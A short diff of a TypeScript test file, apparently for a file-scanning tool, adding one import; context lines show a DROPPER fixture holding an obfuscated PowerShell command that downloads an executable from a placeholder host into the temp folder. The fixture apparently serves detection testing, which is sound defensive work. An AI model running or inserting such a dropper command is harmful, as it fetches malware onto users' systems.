@@ -9,6 +9,7 @@ import { after, before, describe, it } from 'node:test'
 import { type FileRecord, fileRecord } from '@assay/contract'
 import { commands } from '../src/commands/registry.ts'
 import { runCommandLine } from '../src/run.ts'
+import './no-settings.ts'
 
 const DROPPER = `$p = "$env:TEMP\\update.exe"
 (New-Object Net.WebClient).DownloadFile(('ht' + 'tp://files.example.invalid/a.exe'), $p)
